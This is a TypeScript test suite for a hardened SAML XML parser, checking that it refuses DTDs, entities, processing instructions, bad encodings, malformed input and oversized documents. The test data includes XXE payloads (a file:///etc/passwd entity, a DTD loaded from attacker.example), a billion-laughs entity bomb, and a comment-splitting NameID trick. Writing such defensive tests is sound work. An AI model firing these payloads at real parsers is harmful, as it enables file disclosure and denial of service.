import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SamlXmlError } from './errors.ts';
import { parseSamlXml } from './parse.ts';

const request =
  '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>https://sp.example</saml:Issuer></samlp:AuthnRequest>';

function refused(xml: string, code: string, limits?: Parameters<typeof parseSamlXml>[1]): void {
  assert.throws(
    () => parseSamlXml(xml, limits),
    (error: unknown) => error instanceof SamlXmlError && error.code === code,
    `expected ${code}`,
  );
}

test('a plain message parses, with or without the XML declaration and a BOM', () => {
  assert.equal(parseSamlXml(request).documentElement?.localName, 'AuthnRequest');
  assert.equal(
    parseSamlXml(`<?xml version="1.0" encoding="UTF-8"?>\n${request}`).documentElement?.getAttribute('ID'),
    '_a1',
  );
  assert.equal(parseSamlXml(`\uFEFF<?xml version='1.0'?>${request}`).documentElement?.localName, 'AuthnRequest');
});

test('DOCTYPE, internal and external entities and billion laughs are refused before parsing', () => {
  refused(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, 'dtd');
  refused(`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>`, 'dtd');
  const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`;
  refused(laughs, 'dtd');
  refused(`<r><!ENTITY x "y"></r>`, 'dtd');
  refused(`<r>&undefined;</r>`, 'malformed');
});

test('processing instructions and foreign encodings are refused; comments and CDATA are not', () => {
  refused(`<?xml-stylesheet href="x.xsl"?>${request}`, 'processing_instruction');
  refused(`<r><?php echo 1; ?></r>`, 'processing_instruction');
  refused(`<?xml version="1.0" encoding="UTF-16"?><r/>`, 'encoding');
  refused(`<?xml version="1.0" encoding="ISO-8859-1"?><r/>`, 'encoding');
  refused(`<?xml version="1.0"`, 'malformed');
  assert.ok(parseSamlXml('<r><!-- note --><![CDATA[a < b]]></r>'));
});

test('a comment inside a value is read joined, so it cannot cut a value short (CVE-2017-11428 shape)', () => {
  const doc = parseSamlXml(
    '<saml:NameID xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">admin@example.org<!---->.attacker.example</saml:NameID>',
  );
  assert.equal(doc.documentElement?.textContent, 'admin@example.org.attacker.example');
});

test('characters outside XML Char (NUL of UTF-16 read as UTF-8, controls, lone surrogates) are refused', () => {
  refused('<\u0000r\u0000/\u0000>\u0000', 'invalid_char');
  refused('<r>\u0001</r>', 'invalid_char');
  refused('<r>\uD800</r>', 'invalid_char');
  refused('<r>\uFFFE</r>', 'invalid_char');
});

test('malformed documents fail instead of being repaired', () => {
  refused('<r><a></r>', 'malformed');
  refused('<r a="1" a="2"/>', 'malformed');
  refused('<r a=1/>', 'malformed');
  refused('<r><b:c/></r>', 'malformed');
  refused('<r b:x="1"/>', 'malformed');
  refused('', 'malformed');
  refused('just text', 'roots');
});

test('exactly one root element', () => {
  refused(`${request}${request}`, 'malformed');
  refused(`${request}trailing text`, 'roots');
  assert.ok(parseSamlXml(`<!-- before -->\n${request}\n`));
});

test('size, depth, node and attribute limits', () => {
  refused(`<r>${'x'.repeat(200)}</r>`, 'too_large', { maxBytes: 100 });
  refused(`<r>${'ä'.repeat(60)}</r>`, 'too_large', { maxBytes: 100 });
  refused(`${'<a>'.repeat(65)}${'</a>'.repeat(65)}`, 'too_deep');
  assert.ok(parseSamlXml(`${'<a>'.repeat(64)}${'</a>'.repeat(64)}`));
  refused(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`, 'too_large');
  refused(`<r>${'<a/>'.repeat(20_001)}</r>`, 'too_many_nodes');
  const attributes = Array.from({ length: 10_000 }, (_, i) => `a${i}="1"`).join(' ');
  refused(`<r ${attributes}/>`, 'too_many_attributes', { maxBytes: 1024 * 1024 });
});
